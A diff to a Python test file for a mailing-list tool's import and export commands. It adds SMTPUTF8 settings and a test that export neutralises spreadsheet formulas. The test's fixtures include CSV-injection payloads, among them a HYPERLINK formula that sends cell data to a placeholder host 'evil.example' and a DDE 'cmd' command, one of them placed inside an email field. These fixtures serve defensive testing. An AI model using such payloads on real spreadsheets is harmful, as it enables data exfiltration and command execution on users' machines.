@@ -174,6 +174,7 @@ def test_import_tolerates_semicolons_and_rejects_a_file_without_an_email_header(
 
 
 def test_a_row_that_is_not_utf8_is_reported_and_the_rest_imported(site: Site) -> None:
+    site.configure("[email]\nsmtputf8 = true")  # a non-ASCII local part needs it
     data = "email,name\nj\u00fcrgen@example.org,J\u00fcrgen\n".encode() + b"latin@example.org,J\xfcrgen\n"
     result = cli(site, "import", str(write_csv(site, data)))
     assert result.returncode == 1
@@ -185,6 +186,7 @@ def test_a_row_that_is_not_utf8_is_reported_and_the_rest_imported(site: Site) ->
 def test_export_round_trip(site: Site, make_site: Callable[[str], Site]) -> None:
     people = [("Ann@Example.org", "Ann, the First"), ("bob@example.com", 'Bob "Bobby" B'),
               ("chlo\u00e9@example.fr", "Chlo\u00e9"), ("dan@example.net", "")]
+    site.configure("[email]\nsmtputf8 = true")  # for chlo\u00e9@
     buffer = io.StringIO()
     csv.writer(buffer).writerows([("email", "name"), *people])
     assert cli(site, "import", str(write_csv(site, buffer.getvalue()))).returncode == 0
@@ -203,6 +205,7 @@ def test_export_round_trip(site: Site, make_site: Callable[[str], Site]) -> None
     assert [r[0] for r in csv.reader(io.StringIO(only))] == ["email", "dan@example.net"]
 
     other = make_site("other")
+    other.configure("[email]\nsmtputf8 = true")
     path = other.root / "export.csv"
     path.write_text(exported.stdout, encoding="utf-8", newline="")
     imported = cli(other, "import", str(path))
@@ -309,3 +312,36 @@ def test_bounces_and_unsubscribe_by_id(site: Site) -> None:
     with sqlite3.connect(site.state) as db:
         changed = db.execute("SELECT created, changed FROM subscribers").fetchone()
     assert changed == (NOW.isoformat(), NOW.isoformat())
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(A1)",
+            "-1+2", "'=already quoted"]
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(site: Site, make_site: Callable[[str], Site]) -> None:
+    people = [(f"f{n}@example.org", name) for n, name in enumerate(FORMULAS)]
+    people += [("=cmd|'/Ccalc'!A0@example.org", "Formula Address"), ("plain@example.org", "Ann O'Neil, Jr.")]
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([("email", "name"), *people])
+    imported = cli(site, "import", str(write_csv(site, buffer.getvalue())))
+    assert imported.stdout.startswith(f"{len(people)} added, 0 duplicates, 0 invalid"), imported.stdout
+
+    exported = cli(site, "export")
+    assert exported.returncode == 0, exported.stderr
+    table = list(csv.reader(io.StringIO(exported.stdout)))[1:]
+    cells = [cell for row in table for cell in row[:2]]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
+    by_email = {row[0]: row[1] for row in table}
+    assert by_email["f0@example.org"] == "'" + FORMULAS[0] and by_email["f4@example.org"] == "'-1+2"
+    # an apostrophe before a formula reads as an export's escape, so that name was imported as "=already quoted"
+    assert by_email["f5@example.org"] == "'=already quoted"
+    assert by_email["'=cmd|'/Ccalc'!A0@example.org"] == "Formula Address"
+    assert by_email["plain@example.org"] == "Ann O'Neil, Jr.", "an ordinary name is left as it is"
+
+    other = make_site("other")
+    path = other.root / "export.csv"
+    path.write_text(exported.stdout, encoding="utf-8", newline="")
+    assert cli(other, "import", str(path)).returncode == 0
+    assert [r[:3] for r in rows(other)] == [r[:3] for r in rows(site)], "import undoes the export's apostrophes"
+    assert sorted(r[2] for r in rows(other)) == sorted(name.removeprefix("'") for _, name in people)
